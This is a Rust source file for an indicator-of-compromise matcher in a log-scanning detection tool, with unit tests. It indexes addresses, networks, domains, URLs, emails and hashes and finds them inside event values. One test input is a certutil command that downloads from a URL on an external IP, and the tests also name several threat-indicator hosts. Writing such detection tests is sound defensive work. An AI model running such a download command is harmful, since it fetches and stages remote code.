//! Indicators compiled for matching: hash maps per kind (IPv4 as `u32`, IPv6 as `u128`,
//! networks per prefix length, domains by every parent suffix, URLs, emails, hashes), and a
//! single pass over each field value that cuts it into tokens and looks up only the tokens
//! that could be an indicator of a kind present. Hundreds of thousands of indicators cost
//! memory, not time per event.

use std::collections::{HashMap, HashSet};
use std::net::IpAddr;

use portcullis_event::Event;
use portcullis_event::text_hash::TextHash;

use crate::indicator::{Indicator, Kind, normalise_url, parse_cidr};

type Map<K> = HashMap<K, u32, TextHash>;

/// One indicator seen in one value.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Hit {
    /// Index into [`IocSet::indicators`].
    pub indicator: u32,
}

#[derive(Default)]
pub struct IocSet {
    pub indicators: Vec<Indicator>,
    ipv4: Map<u32>,
    ipv6: Map<u128>,
    cidr4: Vec<(u8, Map<u32>)>,
    cidr6: Vec<(u8, Map<u128>)>,
    /// Keyed by bytes, as the tokens of a value are cut (an indicator's value is text).
    domains: Map<Box<[u8]>>,
    /// Last labels of indicator domains: a token ending elsewhere is not looked up.
    tlds: HashSet<Box<[u8]>, TextHash>,
    urls: Map<Box<str>>,
    emails: Map<Box<[u8]>>,
    hashes: Map<Box<[u8]>>,
    /// Indicators dropped because an earlier one had the same kind and value.
    pub duplicates: usize,
    /// Distinguishes sets for the per-thread no-match cache (changes on every `add`).
    generation: usize,
}

static GENERATION: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(1);

impl IocSet {
    /// The set of `indicators`, each (kind, value) once: later duplicates are dropped in
    /// place, so the list is not copied. Addresses and the other kinds are indexed on two
    /// threads (a kind's duplicates are only ever of its own kind).
    pub fn new(mut indicators: Vec<Indicator>) -> IocSet {
        let mut counts = [0usize; 9];
        for ind in &indicators {
            counts[ind.kind as usize] += 1;
        }
        let address = |k: Kind| matches!(k, Kind::Ipv4 | Kind::Ipv6);
        // Each part maps values to positions in `indicators`, and lists the positions of
        // duplicates. Sized once: growing a map of a million entries rehashes each entry
        // several times.
        let part = |addresses: bool| {
            let mut s = IocSet::default();
            if addresses {
                s.ipv4.reserve(counts[Kind::Ipv4 as usize]);
                s.ipv6.reserve(counts[Kind::Ipv6 as usize]);
            } else {
                s.domains.reserve(counts[Kind::Domain as usize]);
                s.urls.reserve(counts[Kind::Url as usize]);
                s.emails.reserve(counts[Kind::Email as usize]);
                s.hashes.reserve(counts[Kind::Md5 as usize] + counts[Kind::Sha1 as usize] + counts[Kind::Sha256 as usize]);
            }
            let mut dropped = Vec::new();
            for (j, ind) in indicators.iter().enumerate() {
                if address(ind.kind) == addresses && !s.index(ind, j as u32) {
                    dropped.push(j as u32);
                }
            }
            (s, dropped)
        };
        let ((addresses, mut dropped), (rest, more)) = std::thread::scope(|scope| {
            let other = scope.spawn(|| part(false));
            let mine = part(true);
            (mine, other.join().unwrap_or_else(|p| std::panic::resume_unwind(p)))
        });
        // The address maps from one part, every other map from the other.
        let mut s = IocSet { ipv4: addresses.ipv4, ipv6: addresses.ipv6, ..rest };
        dropped.extend(more);
        if !dropped.is_empty() {
            // Positions become indices in the list without the duplicates.
            let mut keep = vec![true; indicators.len()];
            for &j in &dropped {
                keep[j as usize] = false;
            }
            let mut index = Vec::with_capacity(indicators.len());
            let mut kept = 0u32;
            for &k in &keep {
                index.push(kept);
                kept += u32::from(k);
            }
            s.renumber(&index);
            let mut flags = keep.iter();
            indicators.retain(|_| flags.next().copied().unwrap_or(false));
        }
        s.duplicates = dropped.len();
        s.generation = GENERATION.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        s.indicators = indicators;
        s
    }

    /// Replaces every indicator number `i` in the maps with `index[i]`.
    fn renumber(&mut self, index: &[u32]) {
        let apply = |v: &mut u32| *v = index[*v as usize];
        self.ipv4.values_mut().for_each(apply);
        self.ipv6.values_mut().for_each(apply);
        for (_, m) in &mut self.cidr4 {
            m.values_mut().for_each(apply);
        }
        for (_, m) in &mut self.cidr6 {
            m.values_mut().for_each(apply);
        }
        for m in [&mut self.domains, &mut self.emails, &mut self.hashes] {
            m.values_mut().for_each(apply);
        }
        self.urls.values_mut().for_each(apply);
    }

    pub fn len(&self) -> usize {
        self.indicators.len()
    }

    pub fn is_empty(&self) -> bool {
        self.indicators.is_empty()
    }

    /// The indicators in each value of `ev`: `found(field, hits)` for every field whose
    /// value holds one, in field order. A value equal to the one before it (an alias, such
    /// as cs(User-Agent) and cs-user-agent) is not scanned again.
    pub fn scan_event(&self, ev: &Event, hits: &mut Vec<Hit>, mut found: impl FnMut(usize, &[Hit])) {
        if self.indicators.is_empty() {
            return;
        }
        let mut previous: &[u8] = &[];
        // As bytes: most values are rejected at a glance, and taking each as text would
        // first check that it starts and ends between characters.
        for (k, (_, value)) in ev.field_bytes().enumerate() {
            // Compared only once the value is known to need scanning.
            let before = std::mem::replace(&mut previous, value);
            if self.rejects(value) || before == value {
                continue;
            }
            hits.clear();
            self.scan_tokens(value, hits);
            if !hits.is_empty() {
                found(k, hits);
            }
        }
    }

    pub fn add(&mut self, ind: Indicator) {
        self.generation = GENERATION.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let i = self.indicators.len() as u32;
        if self.index(&ind, i) {
            self.indicators.push(ind);
        } else {
            self.duplicates += 1;
        }
    }

    /// Enters `ind` in its kind's map as indicator `i`; false if its value was there already.
    fn index(&mut self, ind: &Indicator, i: u32) -> bool {
        match ind.kind {
            Kind::Ipv4 => ind.value.parse::<std::net::Ipv4Addr>().is_ok_and(|a| insert_new(&mut self.ipv4, a.into(), i)),
            Kind::Ipv6 => ind.value.parse::<std::net::Ipv6Addr>().is_ok_and(|a| insert_new(&mut self.ipv6, a.into(), i)),
            Kind::Cidr => match parse_cidr(&ind.value) {
                Some((IpAddr::V4(a), len)) => {
                    let slot = match self.cidr4.iter().position(|(l, _)| *l == len) {
                        Some(p) => p,
                        None => {
                            self.cidr4.push((len, Map::default()));
                            self.cidr4.len() - 1
                        }
                    };
                    insert_new(&mut self.cidr4[slot].1, a.into(), i)
                }
                Some((IpAddr::V6(a), len)) => {
                    let slot = match self.cidr6.iter().position(|(l, _)| *l == len) {
                        Some(p) => p,
                        None => {
                            self.cidr6.push((len, Map::default()));
                            self.cidr6.len() - 1
                        }
                    };
                    insert_new(&mut self.cidr6[slot].1, a.into(), i)
                }
                None => false,
            },
            Kind::Domain => {
                if let Some(tld) = ind.value.rsplit('.').next() {
                    self.tlds.insert(tld.as_bytes().into());
                }
                insert_new(&mut self.domains, ind.value.as_bytes().into(), i)
            }
            Kind::Url => insert_new(&mut self.urls, ind.value.as_str().into(), i),
            Kind::Email => {
                if let Some((_, d)) = ind.value.split_once('@')
                    && let Some(tld) = d.rsplit('.').next()
                {
                    self.tlds.insert(tld.as_bytes().into());
                }
                insert_new(&mut self.emails, ind.value.as_bytes().into(), i)
            }
            Kind::Md5 | Kind::Sha1 | Kind::Sha256 => insert_new(&mut self.hashes, ind.value.as_bytes().into(), i),
        }
    }

    /// Every indicator found in `value`, each once.
    ///
    /// The tests that reject a value outright (most of a log's values) are inlined into the
    /// caller; only a value that could hold an indicator pays for the call that cuts it up.
    #[inline]
    pub fn scan(&self, value: &str, out: &mut Vec<Hit>) {
        self.scan_bytes(value.as_bytes(), out);
    }

    /// [`IocSet::scan`] of a value's bytes. Bytes that are not UTF-8 are read as
    /// [`String::from_utf8_lossy`] reads them: they end a token.
    #[inline]
    fn scan_bytes(&self, b: &[u8], out: &mut Vec<Hit>) {
        if !self.indicators.is_empty() && !self.rejects(b) {
            self.scan_tokens(b, out);
        }
    }

    /// Whether `b` can be seen at a glance to hold no indicator (most of a log's values).
    #[inline]
    fn rejects(&self, b: &[u8]) -> bool {
        if b.len() < 3 || b.len() > 64 * 1024 {
            return true;
        }
        // Every indicator kind but a hash needs a `.`, `:` or `@`; most fields have none.
        // Eight bytes at a time for short values, shorter than memchr's set-up costs.
        let punct = if b.len() < 32 { has_punct(b) } else { memchr::memchr3(b'.', b':', b'@', b).is_some() };
        if !punct && (b.len() < 32 || self.hashes.is_empty()) {
            return true;
        }
        // A time of day or a date and time (every line of a web or Exchange log has one,
        // mostly all different, so the no-match cache below cannot help): no indicator.
        is_timestamp(b)
    }

    /// [`IocSet::scan`] past its quick rejections: the no-match cache, then the tokens.
    #[inline(never)]
    fn scan_tokens(&self, b: &[u8], out: &mut Vec<Hit>) {
        let start = out.len();
        // Log values repeat (server addresses, paths, user agents): a value already seen to
        // hold no indicator is not cut up again. Per thread, direct-mapped, bounded. Keyed by
        // the hash alone, so the hash is seeded: a value carrying an indicator cannot be made
        // to share the hash of a clean one seen before, and so be skipped.
        let cacheable = b.len() <= 512;
        let key = if cacheable { TextHash::default().hash_bytes(b) | 1 } else { 0 };
        if cacheable
            && NO_MATCH.with(|c| {
                let mut c = c.borrow_mut();
                if c.owner != self.generation {
                    c.owner = self.generation;
                    c.slots.fill(0);
                }
                c.slots[(key as usize) & (NO_MATCH_SLOTS - 1)] == key
            })
        {
            return;
        }
        if !self.urls.is_empty() && b.len() > 8 && has_scheme_separator(b) {
            self.scan_urls(&String::from_utf8_lossy(b), out);
        }
        let mut lower = [0u8; 256];
        let mut i = 0;
        while i < b.len() {
            while i < b.len() && CLASS[b[i] as usize] == 0 {
                i += 1;
            }
            let s = i;
            let (mut dots, mut colons, mut at) = (0, 0, false);
            let mut all = ALPHA | HEX | DIGIT_DOT;
            let mut any = 0u8;
            while i < b.len() {
                let c = CLASS[b[i] as usize];
                if c == 0 {
                    break;
                }
                if c & PUNCT != 0 {
                    match b[i] {
                        b'.' => dots += 1,
                        b':' => colons += 1,
                        _ => at = true,
                    }
                }
                all &= c;
                any |= c;
                i += 1;
            }
            let (alpha, hex, digits_dots) = (any & ALPHA != 0, all & HEX != 0, all & DIGIT_DOT != 0);
            let tok = &b[s..i];
            if tok.len() < 3 {
                continue;
            }
            if digits_dots && dots == 3 {
                if let Some(ip) = ipv4(tok) {
                    self.lookup_v4(ip, out);
                }
                continue;
            }
            if hex && matches!(tok.len(), 32 | 40 | 64) && !self.hashes.is_empty() {
                let l = lowered(tok, &mut lower);
                if let Some(&x) = self.hashes.get(l) {
                    out.push(Hit { indicator: x });
                }
                continue;
            }
            if colons >= 2 && !self.ipv6.is_empty() | !self.cidr6.is_empty() {
                if let Some(IpAddr::V6(a)) = std::str::from_utf8(tok).ok().and_then(|t| t.parse::<IpAddr>().ok()) {
                    self.lookup_v6(a.into(), out);
                }
                continue;
            }
            // host:port
            let tok = if colons == 1 { tok.split(|&c| c == b':').next().unwrap_or(tok) } else { tok };
            if colons == 1
                && dots == 3
                && let Some(ip) = ipv4(tok)
            {
                self.lookup_v4(ip, out);
                continue;
            }
            if at && !self.emails.is_empty() && tok.len() <= 254 {
                let l = lowered(trim(tok, |c| c == b'.'), &mut lower);
                if let Some(&x) = self.emails.get(l) {
                    out.push(Hit { indicator: x });
                }
            }
            if alpha && dots > 0 && !self.domains.is_empty() && tok.len() <= 253 {
                let host = if at { tok.rsplit(|&c| c == b'@').next().unwrap_or(tok) } else { tok };
                let host = trim(host, |c| matches!(c, b'.' | b'-'));
                let l = lowered(host, &mut lower);
                let tld = l.rsplit(|&c| c == b'.').next().unwrap_or_default();
                if self.tlds.contains(tld) {
                    // The domain and each parent: `a.b.evil.com` matches `evil.com`.
                    let mut d = l;
                    loop {
                        if let Some(&x) = self.domains.get(d) {
                            out.push(Hit { indicator: x });
                            break;
                        }
                        match d.iter().position(|&c| c == b'.') {
                            Some(p) if d[p + 1..].contains(&b'.') => d = &d[p + 1..],
                            _ => break,
                        }
                    }
                }
            }
        }
        dedup_from(out, start);
        if cacheable && out.len() == start {
            NO_MATCH.with(|c| c.borrow_mut().slots[(key as usize) & (NO_MATCH_SLOTS - 1)] = key);
        }
    }

    fn scan_urls(&self, value: &str, out: &mut Vec<Hit>) {
        let lower = value.to_ascii_lowercase();
        let mut from = 0;
        while let Some(p) = lower[from..].find("://") {
            let at = from + p;
            let start = lower[..at].rfind(|c: char| !c.is_ascii_alphabetic()).map(|i| i + 1).unwrap_or(0);
            let end = value[at..]
                .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | '`'))
                .map(|e| at + e)
                .unwrap_or(value.len());
            if let Some(u) = normalise_url(&value[start..end])
                && let Some(&x) = self.urls.get(u.as_str())
            {
                out.push(Hit { indicator: x });
            }
            from = at + 3;
        }
    }

    fn lookup_v4(&self, ip: u32, out: &mut Vec<Hit>) {
        if let Some(&x) = self.ipv4.get(&ip) {
            out.push(Hit { indicator: x });
        }
        for (len, m) in &self.cidr4 {
            let mask = if *len == 0 { 0 } else { u32::MAX << (32 - len) };
            if let Some(&x) = m.get(&(ip & mask)) {
                out.push(Hit { indicator: x });
            }
        }
    }

    fn lookup_v6(&self, ip: u128, out: &mut Vec<Hit>) {
        if let Some(&x) = self.ipv6.get(&ip) {
            out.push(Hit { indicator: x });
        }
        for (len, m) in &self.cidr6 {
            let mask = if *len == 0 { 0 } else { u128::MAX << (128 - len) };
            if let Some(&x) = m.get(&(ip & mask)) {
                out.push(Hit { indicator: x });
            }
        }
    }
}

/// Inserts only if absent, so a duplicate never repoints an existing entry.
fn insert_new<K: std::hash::Hash + Eq>(m: &mut Map<K>, k: K, i: u32) -> bool {
    match m.entry(k) {
        std::collections::hash_map::Entry::Occupied(_) => false,
        std::collections::hash_map::Entry::Vacant(v) => {
            v.insert(i);
            true
        }
    }
}

fn dedup_from(out: &mut Vec<Hit>, start: usize) {
    if out.len() - start > 1 {
        out[start..].sort_unstable_by_key(|h| h.indicator);
        let mut keep = start + 1;
        for j in start + 1..out.len() {
            if out[j] != out[keep - 1] {
                out[keep] = out[j];
                keep += 1;
            }
        }
        out.truncate(keep);
    }
}

const NO_MATCH_SLOTS: usize = 16 * 1024;

/// Hashes of values known to hold no indicator (0 = empty slot), for the set `owner`;
/// cleared when a thread scans with another set.
struct NoMatch {
    owner: usize,
    slots: Vec<u64>,
}

thread_local! {
    static NO_MATCH: std::cell::RefCell<NoMatch> = std::cell::RefCell::new(NoMatch { owner: 0, slots: vec![0; NO_MATCH_SLOTS] });
}

const TOKEN: u8 = 1;
const ALPHA: u8 = 2;
const HEX: u8 = 4;
const DIGIT_DOT: u8 = 8;
const PUNCT: u8 = 16;

/// Byte classes: part of a token, a letter, a hex digit, a digit or dot, one of `.:@`.
static CLASS: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut c = 0;
    while c < 256 {
        let b = c as u8;
        let mut v = 0;
        if b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_' | b'@' | b':') {
            v |= TOKEN;
        }
        if b.is_ascii_alphabetic() {
            v |= ALPHA;
        }
        if b.is_ascii_hexdigit() {
            v |= HEX;
        }
        if b.is_ascii_digit() || b == b'.' {
            v |= DIGIT_DOT;
        }
        if matches!(b, b'.' | b':' | b'@') {
            v |= PUNCT;
        }
        t[c] = v;
        c += 1;
    }
    t
};

/// Whether `b` holds a `.`, `:` or `@` (every indicator but a hash has one).
#[inline]
fn has_punct(b: &[u8]) -> bool {
    portcullis_event::bytes::has_any(b, [b'.', b':', b'@'])
}

/// Whether `b` holds `://` (`memmem::find` would build a searcher on every call).
fn has_scheme_separator(b: &[u8]) -> bool {
    memchr::memchr_iter(b':', b).any(|i| b[i + 1..].starts_with(b"//"))
}

/// `hh:mm[:ss[.f…]]`, optionally after `yyyy-mm-dd` and `T` or a space, optionally
/// followed by `Z` or a `±hh[:]mm` offset: the exact shapes, so no IPv4 or IPv6 address,
/// domain, URL, address or hash is ever taken for one.
fn is_timestamp(b: &[u8]) -> bool {
    hour_colon_in_place(b) && timestamp_shape(b)
}

/// The colon after the hour, without a date or after one, which every timestamp has: most
/// values (addresses, paths) have neither and are let go at once.
fn hour_colon_in_place(b: &[u8]) -> bool {
    b.len() >= 5 && (b[2] == b':' || b.get(13) == Some(&b':'))
}

/// [`is_timestamp`] without its quick test.
fn timestamp_shape(b: &[u8]) -> bool {
    let digits = |s: &[u8]| !s.is_empty() && s.iter().all(u8::is_ascii_digit);
    let two_two = |s: &[u8], sep: u8| s.len() == 5 && digits(&s[..2]) && s[2] == sep && digits(&s[3..]);
    let mut rest = b;
    if rest.len() > 11 && digits(&rest[..4]) && rest[4] == b'-' && two_two(&rest[5..10], b'-') && matches!(rest[10], b'T' | b' ') {
        rest = &rest[11..];
    }
    // The zone: `Z`, or `+hh:mm`, `-hh:mm`, `+hhmm`, `-hhmm`.
    if let Some(r) = rest.strip_suffix(b"Z") {
        rest = r;
    } else if rest.len() > 6 && matches!(rest[rest.len() - 6], b'+' | b'-') && two_two(&rest[rest.len() - 5..], b':') {
        rest = &rest[..rest.len() - 6];
    } else if rest.len() > 5 && matches!(rest[rest.len() - 5], b'+' | b'-') && digits(&rest[rest.len() - 4..]) {
        rest = &rest[..rest.len() - 5];
    }
    // hh:mm, then :ss, then .fraction.
    if rest.len() < 5 || !two_two(&rest[..5], b':') {
        return false;
    }
    let mut rest = &rest[5..];
    if let Some(r) = rest.strip_prefix(b":") {
        if r.len() < 2 || !digits(&r[..2]) {
            return false;
        }
        rest = &r[2..];
        if let Some(f) = rest.strip_prefix(b".") {
            return digits(f);
        }
    }
    rest.is_empty()
}

fn lowered<'a>(s: &'a [u8], buf: &'a mut [u8; 256]) -> &'a [u8] {
    if s.len() > buf.len() || !s.iter().any(u8::is_ascii_uppercase) {
        return s;
    }
    let b = &mut buf[..s.len()];
    b.copy_from_slice(s);
    b.make_ascii_lowercase();
    b
}

/// `s` without the bytes `cut` accepts at either end.
fn trim(s: &[u8], cut: impl Fn(u8) -> bool) -> &[u8] {
    &s[portcullis_event::bytes::trim_range(s, cut)]
}

/// A dotted quad, strictly (each part 1–3 digits, ≤ 255).
fn ipv4(s: &[u8]) -> Option<u32> {
    let mut out = 0u32;
    let mut part = 0u32;
    let mut digits = 0;
    let mut parts = 0;
    for &c in s {
        if c == b'.' {
            if digits == 0 || part > 255 {
                return None;
            }
            out = (out << 8) | part;
            parts += 1;
            part = 0;
            digits = 0;
        } else if c.is_ascii_digit() {
            digits += 1;
            if digits > 3 {
                return None;
            }
            part = part * 10 + (c - b'0') as u32;
        } else {
            return None;
        }
    }
    if digits == 0 || part > 255 || parts != 3 {
        return None;
    }
    Some((out << 8) | part)
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use super::*;

    #[test]
    fn a_scheme_separator_is_found_wherever_it_is() {
        for (text, has) in
            [("http://x", true), ("://", true), ("a:b://c", true), ("x:/", false), ("a:b//", false), (":", false), ("", false)]
        {
            assert_eq!(super::has_scheme_separator(text.as_bytes()), has, "{text}");
        }
    }

    #[test]
    fn punctuation_is_found_at_every_position_of_a_short_value() {
        for len in 0..32 {
            for at in 0..len {
                for c in [b'.', b':', b'@'] {
                    let mut v = vec![b'a'; len];
                    v[at] = c;
                    assert!(has_punct(&v), "{c} at {at} of {len}");
                }
            }
            // Bytes one away from each, and high bytes, are not punctuation.
            let others: Vec<u8> = (0..len).map(|i| [b'-', b'/', b';', b'?', b'A', 0x80, 0xAE, 0xFF][i % 8]).collect();
            assert!(!has_punct(&others), "{others:?}");
        }
    }

    #[test]
    fn every_timestamp_has_its_hour_colon_in_place() {
        let alphabet = b"0123456789:-TZ+. ";
        let mut seed = 3u64;
        let mut shapes = 0;
        for _ in 0..200_000 {
            seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            let len = (seed >> 59) as usize + 3;
            // Mostly digits and colons where a time has them, so that many are timestamps.
            let template = b"2021-12-01T10:11:12.123+01:00";
            let v: Vec<u8> = (0..len)
                .map(|i| {
                    let r = (seed.rotate_left(i as u32 * 5) ^ (i as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15)) >> 7;
                    if r.is_multiple_of(3) { alphabet[(r >> 3) as usize % alphabet.len()] } else { template[i % template.len()] }
                })
                .collect();
            for v in [&v[..], &v[11.min(v.len())..]] {
                if timestamp_shape(v) {
                    shapes += 1;
                    assert!(hour_colon_in_place(v), "{:?}", String::from_utf8_lossy(v));
                }
            }
        }
        assert!(shapes > 1000, "{shapes}");
    }

    #[test]
    fn timestamps_are_told_from_anything_an_indicator_can_be() {
        for t in [
            "12:34",
            "12:34:56",
            "12:34:56.789",
            "2021-12-01T10:11:12.123Z",
            "2021-12-01 10:11:12",
            "2021-12-01T10:11:12+01:00",
            "2021-12-01T10:11:12.5-0500",
            "2021-12-01T10:11Z",
        ] {
            assert!(is_timestamp(t.as_bytes()), "{t}");
        }
        for v in [
            "1.2.3.4",
            "10.0.0.1:443",
            "::1",
            "1:2:3:4:5:6:7:8",
            "fe80::12:34",
            "12:34:56:78",
            "12:34:5",
            "12:34:56.",
            "12:34:56.7x",
            "2021-12-01T10:11:12Zevil.com",
            "2021-12-01T10:11:12 evil.com",
            "evil.com 12:34:56",
            "12:34:56.evil.com",
            "2021-12-01",
            "a2:34:56",
            "",
        ] {
            assert!(!is_timestamp(v.as_bytes()), "{v}");
        }
    }
    use crate::indicator::{Context, normalise};

    fn set(values: &[&str]) -> IocSet {
        let ctx = Arc::new(Context::default());
        IocSet::new(
            values
                .iter()
                .map(|v| {
                    let (kind, value) = normalise(None, v).unwrap();
                    Indicator { kind, value, context: ctx.clone(), stix_id: None }
                })
                .collect(),
        )
    }

    fn hits(s: &IocSet, v: &str) -> Vec<String> {
        let mut out = Vec::new();
        s.scan(v, &mut out);
        out.iter().map(|h| s.indicators[h.indicator as usize].value.clone()).collect()
    }

    #[test]
    fn bytes_that_are_not_text_do_not_hide_an_indicator() {
        let s = set(&["47.242.39.92", "nropnews.com"]);
        let mut out = Vec::new();
        s.scan_bytes(b"\xff\xfe 47.242.39.92 x\xc3", &mut out);
        s.scan_bytes(b"\xe2\x82 www.nropnews.com\x80", &mut out);
        let found: Vec<&str> = out.iter().map(|h| s.indicators[h.indicator as usize].value.as_str()).collect();
        assert_eq!(found, ["47.242.39.92", "nropnews.com"]);
        // As text, the same values are found the same way.
        assert_eq!(hits(&s, "47.242.39.92 x"), ["47.242.39.92"]);
    }

    #[test]
    fn each_kind_matches_inside_values() {
        let s = set(&[
            "47.242.39.92",
            "10.20.0.0/16",
            "2001:db8::/32",
            "2001:db8:1::5",
            "nropnews.com",
            "http://206.188.196.77:8080/themes.aspx",
            "bad@evil.example",
            &"ab".repeat(32),
            "d41d8cd98f00b204e9800998ecf8427e",
        ]);
        assert_eq!(hits(&s, "47.242.39.92"), vec!["47.242.39.92"]);
        assert_eq!(hits(&s, "from 47.242.39.92:443 to x"), vec!["47.242.39.92"]);
        assert!(hits(&s, "147.242.39.92").is_empty());
        assert_eq!(hits(&s, "10.20.3.4"), vec!["10.20.0.0/16"]);
        assert!(hits(&s, "10.21.3.4").is_empty());
        assert_eq!(hits(&s, "2001:db8:ffff::1"), vec!["2001:db8::/32"]);
        assert_eq!(hits(&s, "2001:db8:1::5"), vec!["2001:db8::/32", "2001:db8:1::5"]);
        assert_eq!(hits(&s, "GET https://track.NROPNEWS.com/o/x"), vec!["nropnews.com"], "subdomain, any case");
        assert!(hits(&s, "notnropnews.com").is_empty(), "a longer label is not a subdomain");
        assert!(hits(&s, "nropnews.com.evil.example").is_empty());
        assert_eq!(
            hits(&s, r#"certutil -urlcache -split -f http://206.188.196.77:8080/themes.aspx c:\t"#),
            vec!["http://206.188.196.77:8080/themes.aspx"]
        );
        assert_eq!(hits(&s, "From: <BAD@evil.example>"), vec!["bad@evil.example"]);
        assert_eq!(hits(&s, &format!("hash={}", "AB".repeat(32))), vec!["ab".repeat(32)]);
        assert_eq!(hits(&s, "D41D8CD98F00B204E9800998ECF8427E"), vec!["d41d8cd98f00b204e9800998ecf8427e"]);
        assert!(hits(&s, "Mozilla/5.0 (Windows NT 10.0)").is_empty());
    }

    #[test]
    fn quick_rejections_agree_with_cutting_up_every_value() {
        let with_hashes = set(&["47.242.39.92", "nropnews.com", "bad@evil.example", "2001:db8::1", &"ab".repeat(32)]);
        let without_hashes = set(&["47.242.39.92", "10.20.0.0/16", "nropnews.com", "http://206.188.196.77:8080/themes.aspx"]);
        let mut values: Vec<String> = [
            "",
            "ab",
            "abc",
            "12:34:56",
            "2021-12-01 10:11:12",
            "nropnews.com",
            "47.242.39.92",
            "f47ac10b-58cc-4372-a567-0e02b2c3d479",
            "GET /owa/auth/x.js",
            "bad@evil.example",
        ]
        .iter()
        .map(|v| v.to_string())
        .collect();
        values.push("AB".repeat(32));
        values.push(format!("{}-{}", "ab".repeat(32), "x".repeat(40)));
        values.push(format!("{} nropnews.com", "x".repeat(40)));
        values.push(format!("{}47.242.39.92", "y ".repeat(30)));
        // Random mixes of the characters that decide: token bytes, separators, punctuation.
        let alphabet = b"ab09f.:@-_ /x";
        let mut seed = 11u64;
        for _ in 0..3000 {
            seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            let len = (seed >> 40) as usize % 90;
            let v: String = (0..len)
                .map(|i| {
                    let r = seed.rotate_left(i as u32 * 7) ^ (i as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15);
                    alphabet[(r >> 13) as usize % alphabet.len()] as char
                })
                .collect();
            values.push(v);
        }
        for s in [&with_hashes, &without_hashes] {
            for v in &values {
                let (mut quick, mut full) = (Vec::new(), Vec::new());
                s.scan(v, &mut quick);
                if (3..=64 * 1024).contains(&v.len()) {
                    s.scan_tokens(v.as_bytes(), &mut full);
                }
                assert_eq!(quick, full, "{v:?}");
            }
        }
    }

    #[test]
    fn an_event_is_scanned_as_each_of_its_values_is() {
        let sets = [
            set(&["47.242.39.92", "nropnews.com", "bad@evil.example", &"ab".repeat(32)]),
            set(&["47.242.39.92", "10.20.0.0/16", "nropnews.com", "http://206.188.196.77:8080/themes.aspx"]),
        ];
        let values = [
            "",
            "-",
            "47.242.39.92",
            "10.20.3.4:443",
            "12:34:56",
            "Mozilla/5.0 nropnews.com",
            "bad@evil.example",
            "http://206.188.196.77:8080/themes.aspx",
            "x.y",
            "200",
        ];
        let hash = "AB".repeat(32);
        let mut seed = 5u64;
        let mut fields_with_hits = 0;
        for round in 0..2000 {
            seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            let mut ev = Event::new(portcullis_event::SourceKind::W3c);
            for f in 0..(seed >> 59) as usize {
                let pick = (seed >> (f * 4 % 56)) as usize % (values.len() + 1);
                // Names with punctuation too, which must never be taken for values.
                let name = if f % 3 == 0 { format!("a.b:{f}@") } else { format!("f{f}") };
                ev.push_str(&name, values.get(pick).copied().unwrap_or(&hash));
            }
            for s in &sets {
                let mut reference = Vec::new();
                let mut previous = None;
                for (k, f) in ev.fields().enumerate() {
                    if previous != Some(f.value) {
                        let mut h = Vec::new();
                        s.scan(f.value, &mut h);
                        if !h.is_empty() {
                            reference.push((k, h));
                        }
                    }
                    previous = Some(f.value);
                }
                let mut found = Vec::new();
                s.scan_event(&ev, &mut Vec::new(), |k, h| found.push((k, h.to_vec())));
                assert_eq!(found, reference, "round {round}");
                fields_with_hits += found.len();
            }
        }
        assert!(fields_with_hits > 1000, "{fields_with_hits}");
    }

    #[test]
    fn duplicates_are_merged() {
        let s = set(&["1.2.3.4", "1.2.3[.]4", "evil.com", "EVIL.com", "other.org"]);
        assert_eq!((s.len(), s.duplicates), (3, 2));
        // A duplicate does not shift the indicators after it.
        assert_eq!(hits(&s, "evil.com"), vec!["evil.com"]);
        assert_eq!(hits(&s, "other.org"), vec!["other.org"]);
    }

    #[test]
    fn building_at_once_gives_what_adding_in_turn_gives() {
        let values = [
            "evil.com",
            "1.2.3.4",
            "EVIL.com",
            "10.0.0.0/8",
            "1.2.3[.]4",
            "2001:db8::1",
            "a@b.example",
            "10.0.0.0/8",
            "http://x.example/p",
            "2001:DB8::1",
            "other.org",
            "5.6.7.8",
            "http://X.example/p",
            "a@b.example",
            "9.9.9.9",
        ];
        let at_once = set(&values);
        let ctx = Arc::new(Context::default());
        let mut in_turn = IocSet::default();
        for v in values {
            let (kind, value) = normalise(None, v).unwrap();
            in_turn.add(Indicator { kind, value, context: ctx.clone(), stix_id: None });
        }
        let list = |s: &IocSet| s.indicators.iter().map(|i| (i.kind, i.value.clone())).collect::<Vec<_>>();
        assert_eq!(list(&at_once), list(&in_turn));
        assert_eq!((at_once.len(), at_once.duplicates), (9, 6));
        for v in values.iter().chain(&["sub.evil.com", "10.9.8.7", "nothing here"]) {
            assert_eq!(hits(&at_once, v), hits(&in_turn, v), "{v}");
        }
    }
}
